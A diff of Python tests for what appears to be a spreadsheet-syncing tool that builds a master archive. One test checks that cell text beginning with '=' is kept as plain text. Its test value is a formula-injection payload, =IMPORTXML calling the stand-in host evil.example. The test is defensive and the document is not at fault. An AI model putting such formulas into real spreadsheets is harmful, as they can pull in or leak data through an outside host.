@@ -66,7 +66,7 @@ def test_a_tab_made_again_by_a_person_gets_its_flags_after_one_metadata_read(sma
         {"deleteSheet": {"sheetId": ids[tab]}},
         {"addSheet": {"properties": {"sheetId": 777, "title": tab}}},
     ])
-    small.fake.edit_cells(sid, tab, "A1", [header, ["'Hộ tịch", 1, 1, 1, 5]])
+    small.fake.edit_cells(sid, tab, "A1", [header, ["Hộ tịch", 1, 1, 1, 5]])
     result, (reads, writes) = cycle(small)
     assert result.units_read == 1 and result.flags_written == 1
     assert reads <= 1 + 3 and writes <= 1 + 2
@@ -119,7 +119,8 @@ def test_a_master_tab_gone_is_made_again(small):
 
 def test_text_starting_with_equals_stays_text_in_the_master(small):
     formula = '=IMPORTXML("http://evil.example","//a")'
-    small.fake.edit_cells(small.sheet_id("U000"), "Thông tin", "A2", [["'" + formula]])
+    # Typed as a clerk types it: the column is plain text, so it is not a formula.
+    small.fake.edit_cells(small.sheet_id("U000"), "Thông tin", "A2", [[formula]])
     result, _ = cycle(small)
     assert result.master_written
     master = small.fake.spreadsheet(small.ws.archive.master(PERIOD)["ref"])
